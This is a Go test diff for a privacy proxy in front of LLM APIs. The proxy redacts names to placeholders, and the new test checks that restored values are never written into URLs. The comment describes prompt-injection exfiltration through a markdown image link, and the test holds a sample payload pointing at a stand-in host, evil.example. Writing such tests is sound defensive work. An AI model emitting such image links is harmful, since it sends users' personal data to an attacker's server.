@@ -357,6 +357,56 @@ func TestPipelineStreamRestore(t *testing.T) {
 	}
 }
 
+// TestPipelineRestoreNotIntoURLs: an answer that puts a placeholder into a
+// URL (a hostile service, or instructions injected into a pasted document:
+// "![](https://attacker/p.png?n=[PERSON_1])") does not get the value there,
+// or the browser would send it to that host when it loads the image; the
+// same placeholder in the text around it is restored. Through the running
+// proxy, as a whole answer and as a stream of two-byte deltas.
+func TestPipelineRestoreNotIntoURLs(t *testing.T) {
+	h := newPipeHarness(t, nil)
+	if code, body := h.chat(t, "api.openai.com", "Bitte schreibe an Frau Anna Schmidt.", false); code != 200 || !strings.Contains(h.llm.last(), "[PERSON_1]") {
+		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
+	}
+	// The fake service echoes the prompt: what it sends back is what an
+	// injected instruction would have it write.
+	exfil := "![Logo](https://evil.example/p.png?n=[PERSON_1]) Gruß an [PERSON_1]"
+	for _, stream := range []bool{false, true} {
+		code, body := h.chat(t, "api.openai.com", exfil, stream)
+		if code != 200 {
+			t.Fatalf("stream=%v: %d %s", stream, code, body)
+		}
+		if strings.Contains(body, "Anna Schmidt)") || strings.Contains(body, "n=Anna") {
+			t.Fatalf("stream=%v: value restored into the URL: %s", stream, body)
+		}
+		text := body
+		if stream {
+			var b strings.Builder
+			for _, line := range strings.Split(body, "\n") {
+				data, ok := strings.CutPrefix(line, "data: ")
+				if !ok || data == "[DONE]" {
+					continue
+				}
+				var ev struct {
+					Choices []struct {
+						Delta struct{ Content string } `json:"delta"`
+					} `json:"choices"`
+				}
+				if err := json.Unmarshal([]byte(data), &ev); err != nil {
+					t.Fatalf("invalid event %q: %v", data, err)
+				}
+				for _, c := range ev.Choices {
+					b.WriteString(c.Delta.Content)
+				}
+			}
+			text = b.String()
+		}
+		if !strings.Contains(text, "p.png?n=[PERSON_1]) Gruß an Anna Schmidt") {
+			t.Fatalf("stream=%v: answer %q", stream, text)
+		}
+	}
+}
+
 // TestPipelineAnswerLength: an answer of known length reaches the client
 // with its (restored) length, over HTTP/1.1 and HTTP/2, whether or not it
 // had placeholders to restore; a streamed answer stays without one.
